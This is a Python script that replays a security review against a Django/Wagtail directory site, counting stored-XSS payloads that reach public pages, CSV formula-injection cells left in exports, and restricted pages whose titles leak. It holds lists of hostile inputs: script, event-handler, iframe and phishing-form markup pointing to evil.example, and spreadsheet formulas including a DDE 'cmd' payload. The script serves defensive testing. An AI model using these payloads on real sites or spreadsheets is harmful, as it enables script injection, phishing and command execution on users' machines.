"""Replays the security review (issue 12) against a throwaway database and prints one row per scenario.

Not a test: it prints figures (0 is the goal for each). Run from the project root:
`.venv/bin/python bench/abuse.py` (DATABASE_URL selects PostgreSQL).

Each scenario is a function returning a row (scenario, what is counted, figure, detail); main()
prints them. Scenarios of this file: hostile imports, formula cells, restricted pages.
"""

import csv
import datetime
import io
import time
from datetime import timedelta

from harness import setup_django, throwaway_database

HOSTILE_DESCRIPTIONS = [
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv="refresh"'),
    ('<form action="https://evil.example/"><input name="motdepasse"></form>', 'name="motdepasse"'),
    ('<a href="javascript:alert(1)">clic</a>', "javascript:"),
    ('<svg onload="alert(1)"></svg>', "onload="),
    ('<img src="x" onerror="alert(1)">', "onerror="),
    ("<script>alert(1)</script>", "<script>alert"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe"),
    ("<p><strong>non fermé", "<strong>non fermé</p>"),
    ("Ligne<br>suivante", "Ligne<br>suivante"),
]
FORMULAS = ['=HYPERLINK("https://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def scenario_hostile_imports(client, admin):
    """Hostile descriptions imported by CSV: markup reaching /annuaire/<slug>/, admin edit pages not 200."""
    from directory.exchange.importers import import_file
    from directory.models import Organisation

    rows = [[f"abus-{index}", f"Abus {index}", "13001", text] for index, (text, _) in enumerate(HOSTILE_DESCRIPTIONS)]
    import_file(_csv([["identifiant", "nom", "code_postal", "description"]] + rows))
    reached, broken = 0, 0
    client.force_login(admin)
    for index, (_description, marker) in enumerate(HOSTILE_DESCRIPTIONS):
        organisation = Organisation.objects.get(slug=f"abus-{index}")
        html = client.get(f"/annuaire/{organisation.slug}/").content.decode()
        reached += marker in html or "evil.example" in html
        broken += client.get(f"/admin/directory/organisation/edit/{organisation.pk}/").status_code != 200
    detail = f"{len(HOSTILE_DESCRIPTIONS)} descriptions; admin edit pages not 200: {broken}"
    return ("hostile imports", "hostile markups on the public page", reached, detail)


def scenario_formula_cells(client, admin):
    """Formula cells written by every CSV of the site (public export, admin export, import report)."""
    from directory.exchange.importers import import_file
    from directory.models import Organisation

    for index, formula in enumerate(FORMULAS):
        Organisation.objects.create(name=formula, address=formula, postcode="13001", source_id=f"formule-{index}")
    client.force_login(admin)
    texts = [
        b"".join(client.get("/annuaire/export.csv").streaming_content).decode(),
        b"".join(client.get("/admin/directory/organisation/?export=csv").streaming_content).decode(),
        import_file(
            _csv([["nom", "adresse", "id_source"]] + [["x", f, f"formule-{i}"] for i, f in enumerate(FORMULAS)])
        )
        .as_csv()
        .lstrip("\ufeff"),
    ]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    left = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _plain_number(cell)]
    return ("formula cells", "formula cells left as they are", len(left), f"{len(cells)} cells in 3 CSV files")


def _csv(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _plain_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def scenario_restricted_pages(client, admin):
    """A restricted event, news item and page: listing URLs that show their title."""
    from django.utils import timezone
    from wagtail.models import PageViewRestriction

    from agenda.models import EventIndexPage, EventPage, EventType
    from home.models import ContentPage, HomePage
    from news.models import NewsIndexPage, NewsPage

    day = timezone.localdate() + timedelta(days=2)
    event = EventPage(
        title="Permanence Secretissime",
        slug="permanence-secretissime",
        start_date=day,
        start_time=datetime.time(9),
        end_time=datetime.time(12),
        intro="x",
        event_type=EventType.PERMANENCE,
    )
    event.clean()
    EventIndexPage.objects.get().add_child(instance=event)
    event.save_revision().publish()
    news = NewsPage(title="Nouvelle Secretissime", date=day, intro="x")
    NewsIndexPage.objects.get().add_child(instance=news)
    news.save_revision().publish()
    page = ContentPage(title="Page Secretissime", intro="x", show_in_menus=True)
    HomePage.objects.get().add_child(instance=page)
    page.save_revision().publish()
    for target, kind in ((event, "password"), (news, "login"), (page, "login")):
        PageViewRestriction.objects.create(
            page=target, restriction_type=kind, password="s" if kind == "password" else ""
        )
    client.logout()
    urls = [
        "/",
        "/agenda/",
        "/agenda/permanences/",
        f"/agenda/calendrier/{day:%Y/%m}/",
        "/agenda/agenda.ics",
        "/actualites/",
        "/actualites/rss/",
        "/actualites/atom/",
        "/sitemap.xml",
        "/plan-du-site/",
        "/recherche/?q=Secretissime",
        "/recherche/suggestions/?q=Secretissime",
    ]
    leaked = []
    for url in urls:
        response = client.get(url)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if any(f"{kind} Secretissime" in content.decode() for kind in ("Permanence", "Nouvelle", "Page")):
            leaked.append(url)
    return (
        "restricted pages",
        "listing URLs showing a restricted title",
        len(leaked),
        f"{len(urls)} URLs {leaked or ''}",
    )


SCENARIOS = [scenario_hostile_imports, scenario_formula_cells, scenario_restricted_pages]


def main():
    setup_django()
    from django.contrib.auth.models import User
    from django.test import Client
    from django.test.utils import override_settings

    from tests.helpers.commands import run_command

    with throwaway_database() as connection, override_settings(ALLOWED_HOSTS=["*"]):
        run_command("load_demo_content")
        admin = User.objects.create_superuser("abus", "abus@example.org", "x")
        rows = []
        for scenario in SCENARIOS:
            start = time.perf_counter()
            rows.append((*scenario(Client(), admin), (time.perf_counter() - start)))
        print(f"\nAbuse replay (issue 12) — {connection.vendor}")
        print(f"{'scenario':20} {'what is counted':42} {'figure':>6} {'s':>5}  detail")
        for name, counted, figure, detail, seconds in rows:
            print(f"{name:20} {counted:42} {figure:>6} {seconds:>5.1f}  {detail}")


if __name__ == "__main__":
    main()
